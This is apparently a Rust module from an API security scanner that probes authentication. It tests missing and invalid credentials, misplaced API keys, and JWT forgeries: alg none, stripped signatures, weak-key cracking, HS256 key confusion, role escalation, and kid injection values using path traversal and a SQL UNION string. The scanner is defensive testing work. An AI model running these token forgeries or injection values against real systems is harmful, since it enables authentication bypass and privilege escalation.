//! Authentication probes: every secured operation without credentials and
//! with bad ones, API keys in the wrong place, and the JWT attacks (alg
//! none, signature stripped or altered, a weak HMAC key cracked offline,
//! claims forged with a known key, public-key/HMAC confusion, `kid`
//! injection, a role claim raised).

use crate::check::Check;
use crate::jwt::{self, Jwt};
use crate::scan::{Found, Probed, Scan, Stop};
use base64::Engine;
use seam_fuzz::auth::Credentials;
use seam_fuzz::case::Sent;
use seam_fuzz::finding::Answer;
use seam_openapi::model::SecurityKind;
use serde_json::{json, Map, Value};
use std::collections::HashSet;

/// The checks the JWT probes serve.
const JWT_CHECKS: [Check; 11] = [
    Check::JwtAlgNone,
    Check::JwtSignatureNotVerified,
    Check::JwtWeakKey,
    Check::JwtExpiredAccepted,
    Check::JwtNoExpiryAccepted,
    Check::JwtNbfIgnored,
    Check::JwtAudienceIgnored,
    Check::JwtIssuerIgnored,
    Check::JwtKeyConfusion,
    Check::JwtKidInjection,
    Check::JwtClaimEscalation,
];

pub async fn run(scan: &Scan<'_>) -> Probed {
    let refused = missing_and_invalid(scan).await?;
    api_key_place(scan).await?;
    api_key_binding(scan).await?;
    jwt_attacks(scan, &refused).await
}

/// The kinds of credential an operation takes: (bearer-like, basic, API key
/// header names).
fn schemes(scan: &Scan<'_>, op: usize) -> (bool, bool, Vec<String>) {
    let mut bearer = false;
    let mut basic = false;
    let mut keys = Vec::new();
    for req in &scan.spec.operations[op].security {
        for (name, _) in &req.schemes {
            match scan.spec.security_scheme(name).map(|s| &s.kind) {
                Some(SecurityKind::Http { scheme, .. }) if scheme.eq_ignore_ascii_case("basic") => {
                    basic = true
                }
                Some(SecurityKind::ApiKey { name, .. }) => keys.push(name.clone()),
                Some(_) => bearer = true,
                None => {}
            }
        }
    }
    (bearer, basic, keys)
}

fn only(headers: &[(&str, String)]) -> Credentials {
    Credentials {
        headers: headers
            .iter()
            .map(|(n, v)| (n.to_string(), v.clone()))
            .collect(),
        query: Vec::new(),
    }
}

/// Sends `op`'s valid request with exactly `creds`.
async fn send_with(
    scan: &Scan<'_>,
    op: usize,
    creds: &Credentials,
) -> Result<(Sent, Option<Answer>), Stop> {
    let sent = scan.request(op, &scan.valid_case(op), creds);
    let answer = scan.send(&sent).await?;
    if let Some(a) = &answer {
        scan.inspect(op, None, &sent, a);
    }
    Ok((sent, answer))
}

/// No credentials, then bad ones, to every secured operation. The
/// operations that refused a request without credentials.
async fn missing_and_invalid(scan: &Scan<'_>) -> Result<HashSet<usize>, Stop> {
    let mut refused = HashSet::new();
    let token = scan.identities.first().and_then(|i| i.bearer());
    for &op in &scan.plan.secured {
        // JWT probes need an operation that refuses no credentials
        if scan.on(Check::AuthMissing) || JWT_CHECKS.iter().any(|c| scan.on(*c)) {
            scan.probe(Check::AuthMissing);
            let (sent, answer) = send_with(scan, op, &Credentials::default()).await?;
            match answer {
                Some(a) if (200..300).contains(&a.status) && scan.on(Check::AuthMissing) => {
                    scan.found(Found {
                        check: Check::AuthMissing,
                        operation: scan.label(op),
                        identity: "-",
                        key: String::new(),
                        message: "answered without any credentials".into(),
                        evidence: format!(
                            "{} to a request with no Authorization, API key or cookie",
                            a.status
                        ),
                        request: &sent,
                        answer: Some(&a),
                        steps: Vec::new(),
                    });
                }
                Some(a) if a.status == 401 || a.status == 403 => {
                    refused.insert(op);
                }
                _ => {}
            }
        }
        if !scan.on(Check::AuthInvalidToken) {
            continue;
        }
        let (bearer, basic, keys) = schemes(scan, op);
        let mut variants: Vec<(&str, Credentials)> = Vec::new();
        if bearer {
            variants.push((
                "an empty bearer token",
                only(&[("Authorization", "Bearer ".into())]),
            ));
            variants.push((
                "a garbage bearer token",
                only(&[("Authorization", "Bearer seam-garbage-token-0000".into())]),
            ));
            variants.push((
                "a malformed JWT",
                only(&[("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30".into())]),
            ));
            if let Some(t) = &token {
                variants.push((
                    "the real token under the Basic scheme",
                    only(&[("Authorization", format!("Basic {t}"))]),
                ));
            }
        }
        if basic {
            let wrong =
                base64::engine::general_purpose::STANDARD.encode("seam-probe:wrong-password");
            variants.push((
                "wrong basic credentials",
                only(&[("Authorization", format!("Basic {wrong}"))]),
            ));
        }
        for k in &keys {
            variants.push((
                "a wrong API key",
                only(&[(k.as_str(), "seam-wrong-key-0000".into())]),
            ));
            variants.push(("an empty API key", only(&[(k.as_str(), String::new())])));
        }
        for (what, creds) in variants {
            scan.probe(Check::AuthInvalidToken);
            let (sent, answer) = send_with(scan, op, &creds).await?;
            if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
                scan.found(Found {
                    check: Check::AuthInvalidToken,
                    operation: scan.label(op),
                    identity: "-",
                    key: String::new(),
                    message: format!("answered to {what}"),
                    evidence: format!("{} with {what} and no other credential", a.status),
                    request: &sent,
                    answer: Some(&a),
                    steps: Vec::new(),
                });
                break;
            }
        }
    }
    Ok(refused)
}

/// API keys of header schemes sent in the query instead.
async fn api_key_place(scan: &Scan<'_>) -> Probed {
    if !scan.on(Check::ApiKeyWrongPlace) {
        return Ok(());
    }
    let Some(identity) = scan.identities.first() else {
        return Ok(());
    };
    for (op, header) in scan.plan.header_keys.clone() {
        let creds = identity.credentials();
        let Some((_, key)) = creds
            .headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(&header))
        else {
            continue;
        };
        scan.probe(Check::ApiKeyWrongPlace);
        let mut query: Vec<(String, String)> = ["api_key", "apikey", "key", "apiKey"]
            .iter()
            .map(|n| (n.to_string(), key.clone()))
            .collect();
        if !query.iter().any(|(n, _)| n.eq_ignore_ascii_case(&header)) {
            query.push((header.clone(), key.clone()));
        }
        let moved = Credentials {
            headers: Vec::new(),
            query,
        };
        let (sent, answer) = send_with(scan, op, &moved).await?;
        if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
            scan.found(Found {
                check: Check::ApiKeyWrongPlace,
                operation: scan.label(op),
                identity: identity.name(),
                key: header.clone(),
                message: format!("the `{header}` API key was accepted in the query string"),
                evidence: format!(
                    "{} with the key in the URL and no `{header}` header",
                    a.status
                ),
                request: &sent,
                answer: Some(&a),
                steps: Vec::new(),
            });
        }
    }
    Ok(())
}

/// Operations that take a token and an API key together: the first
/// identity's token with another identity's key, where a made-up key is
/// refused.
async fn api_key_binding(scan: &Scan<'_>) -> Probed {
    if !scan.on(Check::ApiKeyNotBound) || scan.plan.key_pairs.is_empty() {
        return Ok(());
    }
    let key_of = |who: usize, header: &str| {
        scan.identities[who]
            .credentials()
            .headers
            .into_iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(header))
            .map(|(_, v)| v)
    };
    for (op, header) in scan.plan.key_pairs.clone() {
        let Some(own) = key_of(0, &header) else {
            continue;
        };
        let Some((other, theirs)) = (1..scan.identities.len())
            .find_map(|w| key_of(w, &header).filter(|k| *k != own).map(|k| (w, k)))
        else {
            scan.note(format!(
                "{}: api-key-not-bound needs two identities with a `{header}` key",
                scan.label(op)
            ));
            continue;
        };
        let with_key = |key: &str| {
            let mut creds = scan.identities[0].credentials();
            for (n, v) in &mut creds.headers {
                if n.eq_ignore_ascii_case(&header) {
                    *v = key.to_string();
                }
            }
            creds
        };
        scan.probe(Check::ApiKeyNotBound);
        let (_, control) = send_with(scan, op, &with_key(&own)).await?;
        if !crate::scan::success(&control) {
            continue;
        }
        let (sent, answer) = send_with(scan, op, &with_key(&theirs)).await?;
        let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) else {
            continue;
        };
        let made_up = format!("seam-made-up-key-{}", scan.unique());
        let (_, refused) = send_with(scan, op, &with_key(&made_up)).await?;
        if crate::scan::success(&refused) {
            continue; // the key is not checked at all: auth-invalid-token's case
        }
        let (mine, their_name) = (scan.identities[0].name(), scan.identities[other].name());
        scan.found(Found {
            check: Check::ApiKeyNotBound,
            operation: scan.label(op),
            identity: mine,
            key: header.clone(),
            message: format!("`{mine}`'s token was accepted with `{their_name}`'s `{header}` key"),
            evidence: format!(
                "{} with the other identity's key; a made-up key got {}",
                a.status,
                refused
                    .map(|r| r.status.to_string())
                    .unwrap_or_else(|| "no answer".into())
            ),
            request: &sent,
            answer: Some(&a),
            steps: Vec::new(),
        });
    }
    Ok(())
}

/// Where JWT probes are sent: a secured operation the first identity's
/// token opens and no credentials do not.
struct Target {
    op: usize,
    jwt: Jwt,
}

impl Target {
    async fn try_token(
        &self,
        scan: &Scan<'_>,
        token: &str,
    ) -> Result<(Sent, Option<Answer>), Stop> {
        send_with(
            scan,
            self.op,
            &only(&[("Authorization", format!("Bearer {token}"))]),
        )
        .await
    }
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0)
}

async fn jwt_attacks(scan: &Scan<'_>, refused: &HashSet<usize>) -> Probed {
    if !JWT_CHECKS.iter().any(|c| scan.on(*c)) {
        return Ok(());
    }
    let Some(identity) = scan.identities.first() else {
        return Ok(());
    };
    let Some(jwt) = identity.bearer().and_then(|t| Jwt::parse(&t)) else {
        scan.note(format!(
            "JWT checks not run: `{}` does not send a JWT as a bearer token",
            identity.name()
        ));
        return Ok(());
    };
    let token = identity.bearer().unwrap_or_default();
    // a spec that declares no security says nothing of which operations
    // need credentials: GETs are asked without any to find out
    let mut refused = refused.clone();
    let mut candidates = scan.plan.secured.clone();
    if scan.spec.security_schemes.is_empty() {
        for &op in scan
            .plan
            .operations
            .iter()
            .filter(|&&op| {
                let o = &scan.spec.operations[op];
                o.method == "GET" && Some(op) != scan.plan.login
            })
            .take(12)
        {
            let (_, answer) = send_with(scan, op, &Credentials::default()).await?;
            if answer.is_some_and(|a| a.status == 401 || a.status == 403) {
                refused.insert(op);
                candidates.push(op);
            }
        }
    }
    let mut target = None;
    for &op in &candidates {
        if !refused.contains(&op) {
            continue;
        }
        let t = Target {
            op,
            jwt: jwt.clone(),
        };
        let (_, answer) = t.try_token(scan, &token).await?;
        if answer.is_some_and(|a| (200..300).contains(&a.status)) {
            target = Some(t);
            break;
        }
    }
    let Some(target) = target else {
        scan.note("JWT checks not run: no secured operation both refused a request without credentials and accepted the first identity's token alone");
        return Ok(());
    };
    let label = scan.label(target.op);
    let report = |check: Check, key: &str, message: String, sent: &Sent, answer: &Answer| {
        scan.found(Found {
            check,
            operation: label.clone(),
            identity: identity.name(),
            key: key.to_string(),
            message,
            evidence: format!(
                "{} answered {} to the forged token, 401/403 to no credentials, 2xx to the real token",
                label, answer.status
            ),
            request: sent,
            answer: Some(answer),
            steps: Vec::new(),
        })
    };
    let (header, claims) = (&jwt.header, &jwt.claims);
    if scan.on(Check::JwtAlgNone) {
        for spelling in ["none", "None", "NONE", "nOnE"] {
            scan.probe(Check::JwtAlgNone);
            let forged = jwt::unsigned(header, claims, spelling);
            let (sent, answer) = target.try_token(scan, &forged).await?;
            if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
                report(
                    Check::JwtAlgNone,
                    "",
                    format!("an unsigned token with `alg: {spelling}` was accepted"),
                    &sent,
                    &a,
                );
                break;
            }
        }
    }
    if scan.on(Check::JwtSignatureNotVerified) {
        for (what, forged) in [("stripped", jwt.stripped()), ("altered", jwt.altered())] {
            scan.probe(Check::JwtSignatureNotVerified);
            let (sent, answer) = target.try_token(scan, &forged).await?;
            if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
                report(
                    Check::JwtSignatureNotVerified,
                    "",
                    format!("the token with its signature {what} was accepted"),
                    &sent,
                    &a,
                );
                break;
            }
        }
    }
    let mut key = scan.options.jwt_key.clone();
    if jwt.hmac().is_some() && (scan.on(Check::JwtWeakKey) || key.is_none()) {
        scan.probe(Check::JwtWeakKey);
        if let Some(found) = jwt::crack(&jwt, &scan.options.jwt_wordlist) {
            let mut c = claims.clone();
            c.insert("jti".into(), json!(format!("seam-{}", scan.unique())));
            let forged = jwt::sign_hmac(header, &c, &found);
            let (sent, answer) = target.try_token(scan, &forged).await?;
            if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
                if scan.on(Check::JwtWeakKey) {
                    report(
                        Check::JwtWeakKey,
                        "",
                        format!(
                            "the {} key is {:?}: found offline in a list of common secrets, and a token signed with it was accepted",
                            jwt.alg(),
                            String::from_utf8_lossy(&found)
                        ),
                        &sent,
                        &a,
                    );
                }
                key = key.or(Some(found));
            }
        }
    }
    match &key {
        Some(k) => forged_claims(scan, &target, k, &report).await?,
        None => scan.note("JWT expiry, nbf, aud, iss and role claims not checked: the signing key is not known (give a test environment's with --jwt-key)"),
    }
    key_confusion(scan, &target, &report).await?;
    kid_injection(scan, &target, &report).await?;
    if let Some(k) = &key {
        claim_escalation(scan, k).await?;
    }
    Ok(())
}

type Report<'r> = dyn Fn(Check, &str, String, &Sent, &Answer) + 'r;

async fn forged_claims(
    scan: &Scan<'_>,
    target: &Target,
    key: &[u8],
    report: &Report<'_>,
) -> Probed {
    let (header, claims) = (&target.jwt.header, &target.jwt.claims);
    let t = now();
    let mut cases: Vec<(Check, &str, Map<String, Value>)> = Vec::new();
    let mut expired = claims.clone();
    expired.insert("exp".into(), json!(t - 3600));
    expired.insert("iat".into(), json!(t - 7200));
    cases.push((Check::JwtExpiredAccepted, "with `exp` an hour ago", expired));
    let mut no_exp = claims.clone();
    no_exp.remove("exp");
    cases.push((Check::JwtNoExpiryAccepted, "without `exp`", no_exp));
    let mut nbf = claims.clone();
    nbf.insert("nbf".into(), json!(t + 3600));
    cases.push((Check::JwtNbfIgnored, "with `nbf` an hour ahead", nbf));
    if claims.contains_key("aud") {
        let mut aud = claims.clone();
        aud.insert("aud".into(), json!("seam-other-audience"));
        cases.push((
            Check::JwtAudienceIgnored,
            "with `aud` another service's",
            aud,
        ));
    }
    if claims.contains_key("iss") {
        let mut iss = claims.clone();
        iss.insert("iss".into(), json!("https://issuer.seam.test"));
        cases.push((Check::JwtIssuerIgnored, "with `iss` another issuer's", iss));
    }
    for (check, what, c) in cases {
        if !scan.on(check) {
            continue;
        }
        scan.probe(check);
        let forged = jwt::sign_hmac(header, &c, key);
        let (sent, answer) = target.try_token(scan, &forged).await?;
        if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
            report(
                check,
                "",
                format!("a token signed with the API's key {what} was accepted"),
                &sent,
                &a,
            );
        }
    }
    Ok(())
}

/// The public keys the API publishes: JWKS at the usual places (and an
/// OpenID configuration's `jwks_uri` on an allowed host), as PEM texts with
/// the key id.
async fn published_keys(scan: &Scan<'_>) -> Result<Vec<(Option<String>, String)>, Stop> {
    let mut out: Vec<(Option<String>, String)> = scan
        .options
        .jwt_public_keys
        .iter()
        .map(|p| (None, p.clone()))
        .collect();
    let get = |target: &str| Sent {
        method: "GET".into(),
        target: target.to_string(),
        headers: vec![("Accept".into(), "application/json".into())],
        body: Vec::new(),
    };
    let mut urls: Vec<String> = [
        "/.well-known/jwks.json",
        "/jwks.json",
        "/.well-known/jwks",
        "/oauth/jwks",
    ]
    .iter()
    .map(|p| format!("{}{p}", scan.client.base_url))
    .collect();
    if let Ok(a) = scan
        .client
        .send(&get("/.well-known/openid-configuration"))
        .await
    {
        if let Some(uri) = serde_json::from_slice::<Value>(&a.body).ok().and_then(|v| {
            v.get("jwks_uri")
                .and_then(Value::as_str)
                .map(str::to_string)
        }) {
            if scan.client.allowed(&uri).is_ok() {
                urls.insert(0, uri);
            }
        }
    }
    for url in urls {
        let answer = match scan.client.send_to(&url, &get("")).await {
            Ok(a) => a,
            Err(crate::client::SendError::Budget(n)) => {
                return Err(Stop(format!(
                    "the request budget (--max-requests {n}) is spent"
                )))
            }
            Err(_) => continue,
        };
        let Ok(v) = serde_json::from_slice::<Value>(&answer.body) else {
            continue;
        };
        for k in v
            .get("keys")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            let kid = k.get("kid").and_then(Value::as_str).map(str::to_string);
            for pem in jwt::jwk_pems(k) {
                out.push((kid.clone(), pem));
            }
        }
        if !out.is_empty() {
            break;
        }
    }
    Ok(out)
}

async fn key_confusion(scan: &Scan<'_>, target: &Target, report: &Report<'_>) -> Probed {
    if !scan.on(Check::JwtKeyConfusion) {
        return Ok(());
    }
    let keys = published_keys(scan).await?;
    if keys.is_empty() {
        scan.note("JWT key confusion not checked: the API publishes no JWKS where seam looks, and no --jwt-public-key was given");
        return Ok(());
    }
    for (kid, pem) in keys {
        scan.probe(Check::JwtKeyConfusion);
        let mut header = target.jwt.header.clone();
        header.insert("alg".into(), json!("HS256"));
        if let Some(k) = &kid {
            header.insert("kid".into(), json!(k));
        }
        let forged = jwt::sign_hmac(&header, &target.jwt.claims, pem.as_bytes());
        let (sent, answer) = target.try_token(scan, &forged).await?;
        if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
            report(
                Check::JwtKeyConfusion,
                "",
                format!(
                    "a token signed with HS256 using the published public key{} as the secret was accepted",
                    kid.map(|k| format!(" `{k}`")).unwrap_or_default()
                ),
                &sent,
                &a,
            );
            break;
        }
    }
    Ok(())
}

async fn kid_injection(scan: &Scan<'_>, target: &Target, report: &Report<'_>) -> Probed {
    if !scan.on(Check::JwtKidInjection) {
        return Ok(());
    }
    let attempts: [(&str, &[u8]); 3] = [
        ("../../../../../../../../../../dev/null", b""),
        ("/dev/null", b""),
        ("seam' UNION SELECT 'seam' -- ", b"seam"),
    ];
    for (kid, key) in attempts {
        scan.probe(Check::JwtKidInjection);
        let mut header = target.jwt.header.clone();
        header.insert("alg".into(), json!("HS256"));
        header.insert("kid".into(), json!(kid));
        let forged = jwt::sign_hmac(&header, &target.jwt.claims, key);
        let (sent, answer) = target.try_token(scan, &forged).await?;
        if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
            report(
                Check::JwtKidInjection,
                "",
                format!(
                    "a token with `kid: {kid:?}`, signed with {}, was accepted",
                    if key.is_empty() {
                        "an empty key".to_string()
                    } else {
                        format!("the key {:?}", String::from_utf8_lossy(key))
                    }
                ),
                &sent,
                &a,
            );
            break;
        }
    }
    Ok(())
}

/// With the key: a low identity's token with its role raised, sent to the
/// role-only operations that refused the genuine one.
async fn claim_escalation(scan: &Scan<'_>, key: &[u8]) -> Probed {
    if !scan.on(Check::JwtClaimEscalation) {
        return Ok(());
    }
    for (op, role) in scan.plan.role_only.clone() {
        for identity in scan
            .identities
            .iter()
            .filter(|i| !i.is_privileged() && !i.has_role(&role))
        {
            let Some(token) = identity.bearer() else {
                continue;
            };
            let Some(jwt) = Jwt::parse(&token) else {
                continue;
            };
            let creds = only(&[("Authorization", format!("Bearer {token}"))]);
            let (_, genuine) = send_with(scan, op, &creds).await?;
            if !genuine.is_some_and(|a| a.status == 401 || a.status == 403) {
                continue;
            }
            scan.probe(Check::JwtClaimEscalation);
            let mut claims = jwt.claims.clone();
            claims.insert("role".into(), json!(role));
            claims.insert("roles".into(), json!([role]));
            claims.insert("admin".into(), json!(true));
            claims.insert("is_admin".into(), json!(true));
            let scope = claims
                .get("scope")
                .and_then(Value::as_str)
                .unwrap_or("")
                .to_string();
            claims.insert(
                "scope".into(),
                json!(format!("{scope} {role}").trim().to_string()),
            );
            let forged = jwt::sign_hmac(&jwt.header, &claims, key);
            let (sent, answer) = send_with(
                scan,
                op,
                &only(&[("Authorization", format!("Bearer {forged}"))]),
            )
            .await?;
            if let Some(a) = answer.filter(|a| (200..300).contains(&a.status)) {
                scan.found(Found {
                    check: Check::JwtClaimEscalation,
                    operation: scan.label(op),
                    identity: identity.name(),
                    key: role.clone(),
                    message: format!(
                        "`{}`'s token with its role raised to `{role}` opened the operation",
                        identity.name()
                    ),
                    evidence: format!(
                        "the genuine token was refused; the forged one got {}",
                        a.status
                    ),
                    request: &sent,
                    answer: Some(&a),
                    steps: Vec::new(),
                });
            }
        }
    }
    Ok(())
}
